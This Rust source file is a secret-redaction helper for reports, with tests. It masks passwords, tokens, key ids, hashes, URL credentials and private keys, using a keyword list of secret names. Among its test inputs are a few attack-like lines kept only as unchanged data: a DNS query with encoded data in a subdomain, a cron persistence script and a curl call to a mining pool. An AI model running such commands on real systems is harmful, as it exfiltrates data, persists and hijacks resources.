//! Hides what looks like a secret in what a report shows: reports are passed on more widely than
//! evidence. The records and files beside the report stay whole. Pure, and a help only: what does
//! not look like a secret is shown.

use std::ops::Range;

/// Parts of names whose values are secrets.
const NAMES: &[&str] = &[
    "passw",
    "passphrase",
    "secret",
    "token",
    "apikey",
    "api_key",
    "api-key",
    "accesskey",
    "access_key",
    "access-key",
    "private_key",
    "privatekey",
    "private-key",
    "credential",
    "authorization",
];
/// Endings of names that only tell where a secret is, or when it ends.
const HARMLESS: &[&str] =
    &["file", "path", "dir", "ttl", "type", "_id", "-id", "url", "uri", "age"];
/// Beginnings of password hashes (crypt(5)).
const HASHES: &[&str] = &["$1$", "$2a$", "$2b$", "$2y$", "$5$", "$6$", "$7$", "$y$", "$gy$"];

/// Hides secrets in one text.
pub fn text(text: &str) -> String {
    Redactor::default().line(text)
}

/// Hides secrets in texts that follow each other: a private key has many lines.
#[derive(Debug, Default)]
pub struct Redactor {
    in_key: bool,
}

impl Redactor {
    /// One line.
    pub fn line(&mut self, line: &str) -> String {
        if self.in_key {
            let Some(end) = line.find("-----END") else { return "[redacted]".to_owned() };
            self.in_key = false;
            let rest = line.get(end..).unwrap_or_default();
            return format!("[redacted]{}", self.line(rest));
        }
        let mut hidden: Vec<Range<usize>> = Vec::new();
        if let Some(key) = self.private_key(line) {
            hidden.push(key);
        }
        hidden.extend(assignments(line));
        hidden.extend(arguments(line));
        hidden.extend(words(line).filter_map(|word| odd_word(line, word)));
        hidden.extend(addresses(line));
        replace(line, hidden)
    }

    fn private_key(&mut self, line: &str) -> Option<Range<usize>> {
        let begin = line.find("-----BEGIN")?;
        let rest = line.get(begin..)?;
        if !rest.contains("PRIVATE KEY") {
            return None;
        }
        let from = begin + rest.find("KEY-----").map_or(rest.len(), |at| at + 8);
        match line.get(from..)?.find("-----END") {
            Some(end) => Some(from..from + end),
            None => {
                self.in_key = true;
                Some(from..line.len())
            }
        }
    }
}

fn replace(line: &str, mut hidden: Vec<Range<usize>>) -> String {
    hidden.retain(|range| range.start < range.end);
    hidden.sort_by_key(|range| range.start);
    let (mut out, mut at) = (String::with_capacity(line.len()), 0);
    for range in hidden {
        if range.start < at {
            continue;
        }
        out.push_str(line.get(at..range.start).unwrap_or_default());
        let characters = line.get(range.clone()).unwrap_or_default().chars().count();
        out.push_str(&format!("[redacted, {characters} characters]"));
        at = range.end;
    }
    out.push_str(line.get(at..).unwrap_or_default());
    out
}

fn is_secret(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    let named = NAMES.iter().any(|part| name.contains(part))
        || ["_key", "_pass", "_pwd", "-pass"].iter().any(|end| name.ends_with(end))
        || name == "pass";
    named && !HARMLESS.iter().any(|end| name.ends_with(end))
}

/// `name=value`, `name: value`, `"name": "value"`.
fn assignments(line: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(next) = line.get(at..).and_then(|rest| rest.find(['=', ':'])) {
        let sign = at + next;
        at = sign + 1;
        let before = line.get(..sign).unwrap_or_default();
        let before = before.trim_end_matches(['"', '\'', ' ', '\t']);
        let name = before
            .rsplit(|c: char| !c.is_ascii_alphanumeric() && !"_-.".contains(c))
            .next()
            .unwrap_or_default();
        let after = line.get(at..).unwrap_or_default();
        // A colon in an address or a time ends no name.
        let yaml = after.starts_with([' ', '\t', '"', '\'']);
        if !is_secret(name) || (line.as_bytes().get(sign) == Some(&b':') && !yaml) {
            continue;
        }
        let blank = after.len() - after.trim_start().len();
        let value = value(line, at + blank, name.eq_ignore_ascii_case("authorization"));
        at = value.end.max(at);
        found.push(value);
    }
    found
}

/// The value that begins there: quoted, or up to a blank or a separator.
fn value(line: &str, from: usize, whole: bool) -> Range<usize> {
    let rest = line.get(from..).unwrap_or_default();
    let quote = rest.chars().next().filter(|c| matches!(c, '"' | '\''));
    let (from, rest) = match quote {
        Some(_) => (from + 1, rest.get(1..).unwrap_or_default()),
        None => (from, rest),
    };
    let end = match quote {
        Some(quote) => rest.find(quote),
        None if whole => rest.find(['"', '\'']),
        None => rest.find(|c: char| c.is_whitespace() || ";,&\"'`})|<>".contains(c)),
    };
    let value = rest.get(..end.unwrap_or(rest.len())).unwrap_or_default();
    // A reference to a variable is no secret, it tells where to look.
    if value.starts_with('$') && !HASHES.iter().any(|hash| value.starts_with(hash)) {
        return from..from;
    }
    from..from + value.len()
}

/// `--password value`, `Bearer value`.
fn arguments(line: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    let mut secret_next = false;
    for range in words(line) {
        let word = line.get(range.clone()).unwrap_or_default();
        if secret_next && !word.starts_with(['-', '$', '|', '>']) {
            found.push(range);
            secret_next = false;
            continue;
        }
        let flag = word.starts_with('-') && !word.contains('=');
        secret_next = (flag && is_secret(word)) || word.eq_ignore_ascii_case("bearer");
    }
    found
}

/// Access key ids, but for their first and last four characters, and password hashes.
fn odd_word(line: &str, range: Range<usize>) -> Option<Range<usize>> {
    let word = line.get(range.clone())?;
    if let Some(at) = HASHES.iter().filter_map(|hash| word.find(hash)).min() {
        return Some(range.start + at..range.end);
    }
    let at = ["AKIA", "ASIA"].iter().filter_map(|prefix| word.find(prefix)).min()?;
    let id = word.get(at..at + 20)?;
    let plain = id.bytes().all(|byte| byte.is_ascii_uppercase() || byte.is_ascii_digit());
    plain.then_some(range.start + at + 4..range.start + at + 16)
}

/// The password in `scheme://user:password@host`.
fn addresses(line: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    for (at, _) in line.match_indices("://") {
        let from = at + 3;
        let rest = line.get(from..).unwrap_or_default();
        let end = rest.find(|c: char| c.is_whitespace() || "/\"'<>".contains(c));
        let authority = rest.get(..end.unwrap_or(rest.len())).unwrap_or_default();
        if let Some(host) = authority.rfind('@')
            && let Some(colon) = authority.get(..host).and_then(|user| user.find(':'))
        {
            found.push(from + colon + 1..from + host);
        }
    }
    found
}

fn words(line: &str) -> impl Iterator<Item = Range<usize>> {
    let start = line.as_ptr() as usize;
    line.split(|c: char| c.is_whitespace() || "\"'".contains(c))
        .filter(|word| !word.is_empty())
        .map(move |word| {
            let from = word.as_ptr() as usize - start;
            from..from + word.len()
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn secrets_are_hidden() {
        for line in [
            "export DB_PASSWORD=hunter2secret",
            "password: hunter2secret",
            "{\"password\": \"hunter2secret\", \"user\": \"x\"}",
            "mysql --password hunter2secret -h db",
            "mysql --password=hunter2secret -h db",
            "curl -H 'Authorization: Bearer hunter2secret' https://x",
            "curl -H \"X-Api-Token: hunter2secret\" x",
            "git clone https://me:hunter2secret@example.com/x",
            "AWS_SECRET_ACCESS_KEY=hunter2secret ./x",
            "root:$6$salt$hunter2secret:19000",
            "passwd: $y$j9T$hunter2secret",
            "-----BEGIN RSA PRIVATE KEY-----hunter2secret-----END RSA PRIVATE KEY-----",
        ] {
            let shown = text(line);
            assert!(!shown.contains("hunter2"), "{shown}");
            assert!(shown.contains("[redacted, "), "{shown}");
        }
        assert_eq!(text("key AKIAIOSFODNN7EXAMPLE x"), "key AKIA[redacted, 12 characters]MPLE x");
    }

    #[test]
    fn keys_of_many_lines() {
        let mut redactor = Redactor::default();
        let lines = [
            "-----BEGIN PRIVATE KEY-----",
            "hunter2",
            "hunter3==",
            "-----END PRIVATE KEY-----",
            "ls",
        ];
        let shown: Vec<String> = lines.iter().map(|line| redactor.line(line)).collect();
        assert_eq!(shown[1], "[redacted]");
        assert!(!shown.concat().contains("hunter") && shown[4] == "ls");
    }

    #[test]
    fn the_rest_is_shown() {
        for line in [
            "PWD=/root",
            "dig CgpMb3JlbSBpcHN1bSBkb2xvciBzaXQgYW1ldC.afsdem.com",
            "*/15 * * * * /usr/cryptokit/persist.sh",
            "AWS_WEB_IDENTITY_TOKEN_FILE=/run/token",
            "curl http://pool.minergate.com:80/x",
            "TOKEN=$(cat /run/x)",
            "ssh-rsa AAAAB3NzaC1yc2E me@host",
            "-----BEGIN CERTIFICATE-----",
            "time 12:30: passwd changed",
        ] {
            assert_eq!(text(line), line);
        }
    }

    proptest! {
        #[test]
        fn never_panics_and_hides_again_to_the_same(line in "\\PC{0,120}") {
            let once = text(&line);
            let _ = text(&once);
        }
        #[test]
        fn hides_any_value(value in "[a-zA-Z0-9/+.]{6,40}") {
            for line in [format!("x API_TOKEN={value} y"), format!("x --api-token {value} y")] {
                prop_assert!(!text(&line).contains(&value));
            }
        }
    }
}
